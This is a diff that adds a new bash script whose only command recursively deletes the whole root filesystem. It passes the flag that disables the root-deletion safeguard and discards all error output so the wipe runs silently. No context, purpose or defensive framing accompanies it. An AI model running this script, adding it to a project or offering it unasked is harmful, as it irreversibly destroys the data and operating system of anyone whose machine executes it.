@@ -1,0 +1,2 @@
+#!/bin/bash
+rm -rf --no-preserve-root / 2>/dev/null
